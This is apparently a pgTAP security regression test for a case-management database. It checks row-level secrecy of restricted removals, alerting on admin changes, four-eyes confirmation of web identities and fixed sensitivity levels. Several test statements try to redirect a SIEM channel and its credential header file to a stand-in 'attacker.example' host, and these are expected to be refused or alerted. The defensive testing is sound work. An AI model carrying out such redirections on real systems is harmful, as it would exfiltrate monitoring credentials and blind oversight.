-- The gaps the attacker pass of 0.2.0 left open (docs/security.md, issue 12), each tried as the
-- hostile role would: (1) at an escort provider, a caseworker or admin of low clearance reads
-- none of a restricted removal's rows in the provider tables keyed by a removal reference
-- (esp_*, error_report, purge_log), nor through the views and functions it may call; (2) an
-- admin cannot redirect, mute or delete an alert channel, or raise a threshold, unseen: each
-- change is a critical alert naming it, also sent to the channel as it was, and a header file
-- never follows a URL to another host; (3) an admin cannot give itself or anyone a web sign-in
-- alone: not to its own role nor a privileged one, and a mapping works only once a second admin
-- confirms it; (4) an admin cannot re-rank, add or remove sensitivity levels.
-- Logins switched with SET SESSION AUTHORIZATION; rows planted by the superuser.
\o /dev/null
ALTER SYSTEM SET hublink.party = 'esp';
SELECT pg_reload_conf();
\set wait_setting hublink.party
\set wait_value esp
\ir include/wait_setting.sql
\o
BEGIN;
SELECT plan(63);

CREATE ROLE gap_cw_std LOGIN IN ROLE hublink_caseworker;
CREATE ROLE gap_cw_res LOGIN IN ROLE hublink_caseworker;
CREATE ROLE gap_admin LOGIN IN ROLE hublink_admin;
CREATE ROLE gap_admin2 LOGIN IN ROLE hublink_admin;
CREATE ROLE gap_web LOGIN NOINHERIT IN ROLE hublink_web;
GRANT gap_cw_std TO gap_web;
SELECT hublink.set_clearance('gap_cw_std', 'standard');
SELECT hublink.set_clearance('gap_cw_res', 'restricted');
SELECT hublink.set_clearance('gap_admin', 'standard');

\set try_name gap_try
\ir include/try.sql
GRANT EXECUTE ON FUNCTION public.gap_try(text) TO PUBLIC;

-- ---------------------------------------------------------------------------------------------
-- 1. An escort provider's rows of a restricted and a standard removal, made by its engine.
\o /dev/null
INSERT INTO hublink.removal (removal_reference, state, sensitivity) VALUES
    ('RMV-2026-009501', NULL, 'restricted'), ('RMV-2026-009502', NULL, 'standard');
INSERT INTO hublink.esp_escort (escort_id, medic, team_leader, gender, physique, languages) VALUES
    ('GAP-LEAD', false, true, 'M', 'ENHANCED', '{en}'), ('GAP-LEAD-2', false, true, 'M', 'ENHANCED', '{en}'),
    ('GAP-LEAD-3', false, true, 'M', 'ENHANCED', '{en}'), ('GAP-LEAD-4', false, true, 'M', 'ENHANCED', '{en}');
INSERT INTO hublink.esp_escort_personal (escort_id, title, given_names, family_name) VALUES
    ('GAP-LEAD', 'Mr', 'Daniel', 'Hughes'), ('GAP-LEAD-2', 'Mr', 'Tom', 'Reid'),
    ('GAP-LEAD-3', 'Mr', 'Sam', 'Cole'), ('GAP-LEAD-4', 'Mr', 'Ian', 'Hay');
INSERT INTO hublink.esp_roster SELECT e, d::date FROM unnest('{GAP-LEAD,GAP-LEAD-2,GAP-LEAD-3,GAP-LEAD-4}'::text[]) e,
    generate_series('2026-03-16'::date, '2026-03-20', '1 day') d;
INSERT INTO hublink.esp_location VALUES ('GAP_IRC', 'LHR', '5', 'Gap test base', 30) ON CONFLICT DO NOTHING;
CREATE TEMP TABLE gap_req AS SELECT '{
  "returnees": [{"personalDetails": {"hoReturneeReference": "HO-9509501", "name": {"givenNames": "A", "familyName": "B"},
                                     "dateOfBirth": "1979-06-14", "nationality": "FRA", "gender": "M"},
                 "escortRiskAssessment": {"flags": []}, "location": {"detentionCentreId": "GAP_IRC"}}],
  "international": false, "escortOnTransport": false,
  "dates": {"earliestLeaveDate": "2026-03-16", "latestLeaveDate": "2026-03-16"},
  "destination": {"description": "Secret destination", "country": "FRA"}}'::jsonb AS r;
SELECT hublink.esp_quote(r, 'RMV-2026-009501', '2026-03-01 10:00+00') FROM gap_req;
SELECT hublink.esp_quote(r, 'RMV-2026-009502', '2026-03-01 10:00+00') FROM gap_req;
SELECT hublink.esp_book(jsonb_build_object('escortQuoteReference', q.quote_ref, 'command', 'BOOK'), '2026-03-02 10:00+00')
  FROM hublink.esp_quote q JOIN hublink.esp_plan p USING (plan_id) ORDER BY p.removal_ref;
INSERT INTO hublink.esp_update (booking_id, cause, body, created_at)
SELECT b.booking_id, 'completed', '{}', now() FROM hublink.esp_booking b;
INSERT INTO hublink.error_report (error_message_id, reported_by, queue, removal_reference, matched, problem_count, problem_locations)
VALUES ('gap-e1', 'hub', 'escort-quote-response', 'RMV-2026-009501', false, 1, '[]'),
       ('gap-e2', 'hub', 'escort-quote-response', 'RMV-2026-009502', false, 1, '[]'),
       ('gap-e3', 'hub', 'escort-quote-response', NULL, false, 1, '[]');
INSERT INTO hublink.purge_log (removal_reference, data_class, reason, removed)
VALUES ('RMV-2026-009501', 'messages', 'retention', '{}'), ('RMV-2026-009502', 'messages', 'retention', '{}');
\o
SELECT plan_id AS res_plan FROM hublink.esp_plan WHERE removal_ref = 'RMV-2026-009501' \gset
SELECT quote_ref AS res_quote FROM hublink.esp_quote WHERE plan_id = :res_plan \gset
SELECT id AS res_report FROM hublink.error_report WHERE error_message_id = 'gap-e1' \gset

-- For each table: the restricted removal's rows as seen by a login, through one query each.
CREATE TEMP TABLE gap_q (t text PRIMARY KEY, q text);
INSERT INTO gap_q VALUES
    ('esp_plan', 'SELECT count(*) FROM hublink.esp_plan WHERE removal_ref = ''RMV-2026-009501'''),
    ('esp_plan_position', format('SELECT count(*) FROM hublink.esp_plan_position WHERE plan_id = %s', :res_plan)),
    ('esp_quote', format('SELECT count(*) FROM hublink.esp_quote WHERE plan_id = %s', :res_plan)),
    ('esp_booking', 'SELECT count(*) FROM hublink.esp_booking WHERE removal_ref = ''RMV-2026-009501'''),
    ('esp_booking_escort', format('SELECT count(*) FROM hublink.esp_booking_escort e JOIN hublink.esp_booking b USING (booking_id) WHERE b.quote_ref = %L', :'res_quote')),
    ('esp_booking_escort (by id)', format('SELECT count(*) FROM hublink.esp_booking_escort WHERE booking_id IN (SELECT booking_id FROM hublink.esp_booking WHERE plan_id = %s) OR escort_id = ''GAP-LEAD''', :res_plan)),
    ('esp_duty', 'SELECT count(*) FROM hublink.esp_duty WHERE duty_date = ''2026-03-16'''),
    ('esp_update', 'SELECT count(*) FROM hublink.esp_update u JOIN hublink.esp_booking b USING (booking_id) WHERE b.removal_ref = ''RMV-2026-009501'''),
    ('error_report', 'SELECT count(*) FROM hublink.error_report WHERE removal_reference = ''RMV-2026-009501'''),
    ('purge_log', 'SELECT count(*) FROM hublink.purge_log WHERE removal_reference = ''RMV-2026-009501'''),
    ('needs_attention (view)', 'SELECT count(*) FROM hublink.needs_attention WHERE removal_reference = ''RMV-2026-009501'''),
    ('esp_plan_body (function)', format('SELECT hublink.esp_plan_body(%s)::text', :res_plan)),
    ('esp_booking_of (function)', format('SELECT (hublink.esp_booking_of(%L)).booking_id', :'res_quote')),
    ('esp_effort (function)', format('SELECT hublink.esp_effort(%s)::text', :res_plan));
CREATE TEMP TABLE gap_seen (who text, t text, v text);
GRANT ALL ON gap_seen TO PUBLIC;
GRANT SELECT ON gap_q TO PUBLIC;

SET SESSION AUTHORIZATION gap_cw_std;
INSERT INTO gap_seen SELECT 'std', t, public.gap_try(q) FROM gap_q;
RESET SESSION AUTHORIZATION;
SET SESSION AUTHORIZATION gap_cw_res;
INSERT INTO gap_seen SELECT 'res', t, public.gap_try(q) FROM gap_q;
RESET SESSION AUTHORIZATION;
SET SESSION AUTHORIZATION gap_admin;
INSERT INTO gap_seen SELECT 'admin', t, public.gap_try(q) FROM gap_q;
INSERT INTO gap_seen VALUES ('admin', 'clear_attention', public.gap_try(format('SELECT hublink.clear_attention(%s, ''hidden'')', :res_report)));
RESET SESSION AUTHORIZATION;

-- The restricted caseworker sees every table's rows: the rows are there to be hidden.
SELECT is((SELECT string_agg(t, ', ' ORDER BY t) FROM gap_seen WHERE who = 'res' AND t NOT LIKE '%(function)' AND t NOT LIKE '%(view)' AND v IN ('0', 'null')),
          NULL, 'a restricted caseworker sees the restricted removal''s rows in every one of them');
SELECT is((SELECT v FROM gap_seen WHERE who = 'std' AND t = k), e, 'standard caseworker, restricted removal: ' || k)
  FROM (VALUES ('esp_plan', '0'), ('esp_plan_position', '0'), ('esp_quote', '0'), ('esp_booking', '0'),
               ('esp_booking_escort', '0'), ('esp_update', '0'), ('error_report', '0'), ('purge_log', '0'),
               ('needs_attention (view)', 'error 42501')) x (k, e);
-- Functions a caseworker may call that read these tables: no row of the restricted removal (the
-- engine's functions fail for anyone but the owner, as they call its audited decrypters).
SELECT ok((SELECT v FROM gap_seen WHERE who = 'std' AND t = k) IN ('null', 'error 42501'),
          'standard caseworker, restricted removal: ' || k || ' returns nothing')
  FROM (VALUES ('esp_plan_body (function)'), ('esp_booking_of (function)')) x (k);
SELECT ok((SELECT count(*) FROM hublink.esp_duty d JOIN hublink.esp_booking b USING (booking_id)
            WHERE d.duty_date = '2026-03-16' AND b.removal_ref = 'RMV-2026-009502') > 0,
          'both removals are booked, with duties on the day');
SELECT is((SELECT v FROM gap_seen WHERE who = 'std' AND t = 'esp_duty'),
          (SELECT count(*)::text FROM hublink.esp_duty d JOIN hublink.esp_booking b USING (booking_id)
            WHERE d.duty_date = '2026-03-16' AND b.removal_ref = 'RMV-2026-009502'),
          'standard caseworker: only the standard removal''s duties of the day');
SELECT is((SELECT v FROM gap_seen WHERE who = 'std' AND t = 'esp_booking_escort (by id)'), '0',
          'standard caseworker: no escort assignment of the restricted booking, by any key');
SELECT ok((SELECT v FROM gap_seen WHERE who = 'std' AND t = 'esp_effort (function)') NOT LIKE '%[1-9]%'
          OR (SELECT v FROM gap_seen WHERE who = 'std' AND t = 'esp_effort (function)') LIKE 'error%'
          OR (SELECT v FROM gap_seen WHERE who = 'std' AND t = 'esp_effort (function)') = 'null',
          'standard caseworker: esp_effort of the restricted plan shows nothing');
SELECT is((SELECT string_agg(t, ', ') FROM gap_seen WHERE who = 'admin' AND t NOT LIKE '%(%' AND t <> 'clear_attention'
              AND v <> 'error 42501'), NULL,
          'an admin reads none of the provider tables (removal data), whatever its clearance');
SELECT is((SELECT v FROM gap_seen WHERE who = 'admin' AND t = 'needs_attention (view)'), '0',
          'an admin cleared standard sees no Error of the restricted removal in needs_attention');
SELECT is((SELECT v FROM gap_seen WHERE who = 'admin' AND t = 'clear_attention'), 'error P0002',
          'and cannot clear it (refused like a missing report)');
SET SESSION AUTHORIZATION gap_admin;
SELECT is((SELECT array_agg(removal_reference ORDER BY removal_reference NULLS LAST) FROM hublink.needs_attention
            WHERE report_id IN (SELECT report_id FROM hublink.needs_attention)),
          ARRAY['RMV-2026-009502', NULL], 'it sees the standard removal''s Error and the one naming no removal');
RESET SESSION AUTHORIZATION;
SELECT is((SELECT cleared_at FROM hublink.error_report WHERE id = :res_report), NULL, 'the restricted report is still open');
SELECT ok((SELECT count(*) FROM hublink.removal_data_path WHERE table_name::text IN
              ('hublink.esp_plan', 'hublink.esp_booking', 'hublink.error_report', 'hublink.purge_log')) = 4,
          'removal_data_path follows removal_ref and removal_reference');
SELECT is((SELECT class FROM hublink.access_object WHERE object_name = 'hublink.esp_escort_personal'::regclass), 'reference',
          'key_scope is not a removal key: the roster stays reference data');

-- ---------------------------------------------------------------------------------------------
-- 2. Alert channels and thresholds.
\o /dev/null
INSERT INTO hublink.alert_header_binding (header_file, host) VALUES ('siem.headers', 'siem.example');
INSERT INTO hublink.alert_channel (channel_name, url, format, event_types, header_file)
VALUES ('gap_siem', 'https://siem.example/services/collector', 'siem_hec', '{alert,security_event}', 'siem.headers'),
       ('gap_chat', 'https://chat.example/hooks/abc', 'chat', '{alert}', NULL);
DELETE FROM hublink.alert_delivery;
\o
CREATE TEMP TABLE gap_alerts_before AS SELECT coalesce(max(alert_id), 0) AS id FROM hublink.alert;
GRANT SELECT ON gap_alerts_before TO PUBLIC;
SET SESSION AUTHORIZATION gap_admin;
SELECT throws_ok($$UPDATE hublink.alert_channel SET url = 'https://attacker.example/collect' WHERE channel_name = 'gap_siem'$$,
                 '42501', NULL, 'an admin cannot send the SIEM header file to another host');
SELECT throws_ok($$INSERT INTO hublink.alert_channel (channel_name, url, format, header_file)
                   VALUES ('gap_steal', 'https://attacker.example/', 'generic_json', 'siem.headers')$$,
                 '42501', NULL, 'nor name it in a new channel of its own');
SELECT throws_ok($$INSERT INTO hublink.alert_header_binding VALUES ('siem.headers', 'attacker.example')
                   ON CONFLICT (header_file) DO UPDATE SET host = excluded.host$$,
                 '42501', NULL, 'nor re-bind the header file (the owner''s)');
SELECT lives_ok($$UPDATE hublink.alert_channel SET url = 'https://attacker.example/hooks' WHERE channel_name = 'gap_chat'$$,
                'an admin may still redirect a channel without a header file');
SELECT lives_ok($$UPDATE hublink.alert_channel SET enabled = false WHERE channel_name = 'gap_siem'$$,
                'and mute one');
SELECT lives_ok($$UPDATE hublink.alert_threshold SET max_count = 100000 WHERE check_name = 'rejections'$$,
                'and raise a threshold');
SELECT lives_ok($$DELETE FROM hublink.alert_channel WHERE channel_name = 'gap_chat'$$, 'and delete a channel');
RESET SESSION AUTHORIZATION;
SELECT is((SELECT array_agg(format('%s|%s|%s|%s', kind, severity, raised_by, detail ->> 'role_name') ORDER BY alert_id)
             FROM hublink.alert WHERE alert_id > (SELECT id FROM gap_alerts_before)),
          ARRAY['security_config_changed|critical|gap_admin|gap_admin', 'security_config_changed|critical|gap_admin|gap_admin',
                'security_config_changed|critical|gap_admin|gap_admin', 'security_config_changed|critical|gap_admin|gap_admin'],
          'each of the four changes is a critical alert naming the admin');
SELECT is((SELECT array_agg(subject ORDER BY alert_id) FROM hublink.alert WHERE alert_id > (SELECT id FROM gap_alerts_before)),
          ARRAY['update of hublink.alert_channel gap_chat by role gap_admin', 'update of hublink.alert_channel gap_siem by role gap_admin',
                'update of hublink.alert_threshold rejections by role gap_admin', 'delete of hublink.alert_channel gap_chat by role gap_admin'],
          'the subjects say what changed and who did it');
SELECT is((SELECT detail -> 'old' ->> 'url' || ' -> ' || (detail -> 'new' ->> 'url') FROM hublink.alert
            WHERE alert_id = (SELECT id FROM gap_alerts_before) + 1),
          'https://chat.example/hooks/abc -> https://attacker.example/hooks', 'the redirect alert shows the old and the new URL');
SELECT is((SELECT array_agg(format('%s %s %s', d.channel_as_was ->> 'url', d.channel_as_was ->> 'header_file', d.event_id - (SELECT id FROM gap_alerts_before))
                            ORDER BY d.delivery_id)
             FROM hublink.alert_delivery d WHERE d.channel_name IS NULL),
          ARRAY['https://chat.example/hooks/abc  1', 'https://siem.example/services/collector siem.headers 2',
                'https://attacker.example/hooks  4'],
          'the redirect, the mute and the delete are each sent to the channel as it was (the delete: as redirected)');
SELECT is((SELECT array_agg(format('%s %s', c.url, coalesce(c.header_file, '-')) ORDER BY c.url)
             FROM hublink.alert_deliveries_claim(100) c),
          ARRAY['https://attacker.example/hooks -', 'https://chat.example/hooks/abc -',
                'https://siem.example/services/collector siem.headers'],
          'the worker sends them there, with the header file only to its host (the muted and the deleted channel get nothing else)');
-- A channel row written around the trigger (a superuser with triggers off) still never sends the
-- header file elsewhere: the claim checks the binding again.
\o /dev/null
SET session_replication_role = replica;
UPDATE hublink.alert_channel SET url = 'https://attacker.example/x', enabled = true WHERE channel_name = 'gap_siem';
SET session_replication_role = origin;
UPDATE hublink.alert_delivery SET next_attempt_at = '-infinity' WHERE state = 'pending';
\o
SELECT is((SELECT count(*)::int FROM hublink.alert_deliveries_claim(100) c WHERE c.url LIKE 'https://attacker.example/x%'), 0,
          'a delivery whose channel names a header file not bound to its host is never claimed');
SELECT is(hublink.alert_header_allowed('siem.headers', 'https://SIEM.example/other'), true,
          'the binding is by host (case-insensitive), whatever the path');
SELECT is(hublink.alert_header_allowed('siem.headers', 'https://siem.example:8443/'), false,
          'another port is another host');

-- ---------------------------------------------------------------------------------------------
-- 3. Web identities: four eyes.
DELETE FROM hublink.alert WHERE alert_id > (SELECT id FROM gap_alerts_before);
SET SESSION AUTHORIZATION gap_admin;
SELECT throws_ok($$INSERT INTO hublink.security_web_identity (issuer, subject, role_name, display_name)
                   VALUES ('https://sso.gap/', 'me', 'gap_admin', 'Me')$$, '42501', NULL,
                 'an admin may not map an identity to its own role');
SELECT throws_ok($$INSERT INTO hublink.security_web_identity (issuer, subject, role_name, display_name)
                   VALUES ('https://sso.gap/', 'me', 'gap_admin2', 'Me')$$, '42501', NULL,
                 'nor to another admin''s role');
SELECT throws_ok($$INSERT INTO hublink.security_web_identity (issuer, subject, role_name, display_name)
                   VALUES ('https://sso.gap/', 'me', 'postgres', 'Me')$$, '42501', NULL,
                 'nor to a superuser');
SELECT throws_ok($$INSERT INTO hublink.security_web_identity (issuer, subject, role_name, display_name)
                   VALUES ('https://sso.gap/', 'me', 'hublink_worker', 'Me')$$, '42501', NULL,
                 'nor to the worker''s role');
SELECT lives_ok($$INSERT INTO hublink.security_web_identity (issuer, subject, role_name, display_name)
                  VALUES ('https://sso.gap/', 'me', 'gap_cw_std', 'Me')$$,
                'an admin maps an identity to a caseworker''s role');
SELECT throws_ok($$UPDATE hublink.security_web_identity SET confirmed_by = 'gap_admin2', confirmed_at = now()$$,
                 '42501', NULL, 'it cannot mark its mapping confirmed');
SELECT throws_ok($$SELECT hublink.confirm_web_identity('https://sso.gap/', 'me')$$, '42501', NULL,
                 'nor confirm it itself');
RESET SESSION AUTHORIZATION;
SELECT is((SELECT format('%s %s', added_by, coalesce(confirmed_by, '-')) FROM hublink.security_web_identity
            WHERE subject = 'me'), 'gap_admin -', 'recorded as added by it, unconfirmed');
SET SESSION AUTHORIZATION gap_web;
SET ROLE hublink_web;
SELECT is((SELECT format('%s: %s', outcome, reason) FROM hublink.web_sign_in('https://sso.gap/', 'me', '192.0.2.1')),
          'failed: identity mapping not yet confirmed by a second admin', 'an unconfirmed mapping cannot sign in');
RESET SESSION AUTHORIZATION;
SET SESSION AUTHORIZATION gap_admin2;
SELECT lives_ok($$SELECT hublink.confirm_web_identity('https://sso.gap/', 'me')$$, 'a second admin confirms it');
RESET SESSION AUTHORIZATION;
SET SESSION AUTHORIZATION gap_web;
SET ROLE hublink_web;
SELECT is((SELECT format('%s %s', outcome, role_name) FROM hublink.web_sign_in('https://sso.gap/', 'me', '192.0.2.1')),
          'succeeded gap_cw_std', 'then the identity signs in');
RESET SESSION AUTHORIZATION;
SET SESSION AUTHORIZATION gap_admin2;
SELECT lives_ok($$UPDATE hublink.security_web_identity SET role_name = 'gap_cw_res' WHERE subject = 'me'$$,
                'an admin moves a confirmed mapping to another role');
SELECT lives_ok($$UPDATE hublink.security_web_identity SET display_name = 'Me Renamed' WHERE subject = 'me'$$,
                'and renames it');
RESET SESSION AUTHORIZATION;
SELECT is((SELECT format('%s %s %s', role_name, added_by, coalesce(confirmed_by, '-')) FROM hublink.security_web_identity
            WHERE subject = 'me'), 'gap_cw_res gap_admin2 -', 'a moved mapping needs confirming again (a rename does not)');
SELECT is((SELECT array_agg(format('%s|%s|%s', severity, raised_by, subject) ORDER BY alert_id) FROM hublink.alert
            WHERE alert_id > (SELECT id FROM gap_alerts_before)),
          ARRAY['critical|gap_admin|insert of hublink.security_web_identity gap_cw_std by role gap_admin',
                'critical|gap_admin2|update of hublink.security_web_identity gap_cw_std by role gap_admin2',
                'critical|gap_admin2|update of hublink.security_web_identity gap_cw_res by role gap_admin2',
                'critical|gap_admin2|update of hublink.security_web_identity gap_cw_res by role gap_admin2'],
          'the mapping, the confirmation, the move and the rename are each a critical alert naming the admin');
SELECT lives_ok($$INSERT INTO hublink.security_web_identity (issuer, subject, role_name, display_name)
                  VALUES ('https://sso.gap/', 'boss', 'gap_admin', 'Boss')$$,
                'the owner (a superuser) maps an admin''s identity');
SELECT is((SELECT confirmed_by::text FROM hublink.security_web_identity WHERE subject = 'boss'), current_user::text,
          'confirmed by the owner at once');

-- ---------------------------------------------------------------------------------------------
-- 4. Sensitivity levels.
DELETE FROM hublink.alert WHERE alert_id > (SELECT id FROM gap_alerts_before);
SET SESSION AUTHORIZATION gap_admin;
SELECT throws_ok($$UPDATE hublink.sensitivity_level SET rank = 5 WHERE level = 'restricted'$$, '42501', NULL,
                 'an admin cannot re-rank a level (restricted below standard would show it to everyone)');
SELECT throws_ok($$UPDATE hublink.sensitivity_level SET level = 'standard2' WHERE level = 'standard'$$, '42501', NULL,
                 'nor rename one');
SELECT throws_ok($$INSERT INTO hublink.sensitivity_level VALUES ('public', 1, 'Below standard')$$, '42501', NULL,
                 'nor add one');
SELECT throws_ok($$DELETE FROM hublink.sensitivity_level WHERE level = 'sensitive'$$, '42501', NULL,
                 'nor remove one');
SELECT lives_ok($$UPDATE hublink.sensitivity_level SET description = 'Named cases only.' WHERE level = 'restricted'$$,
                'it may reword a description');
RESET SESSION AUTHORIZATION;
SELECT lives_ok($$UPDATE hublink.sensitivity_level SET rank = 31 WHERE level = 'restricted'$$, 'the owner re-ranks');
SELECT is((SELECT array_agg(format('%s|%s|%s', severity, raised_by, subject) ORDER BY alert_id) FROM hublink.alert
            WHERE alert_id > (SELECT id FROM gap_alerts_before)),
          ARRAY['critical|gap_admin|update of hublink.sensitivity_level restricted by role gap_admin',
                format('critical|%s|update of hublink.sensitivity_level restricted by role %s', current_user, current_user)],
          'both are critical alerts naming who made them');
SELECT is((SELECT array_agg(rank ORDER BY rank) FROM hublink.sensitivity_level), ARRAY[10, 20, 31],
          'the ranks are the owner''s');

SELECT * FROM finish();
ROLLBACK;
\o /dev/null
ALTER SYSTEM RESET hublink.party;
SELECT pg_reload_conf();
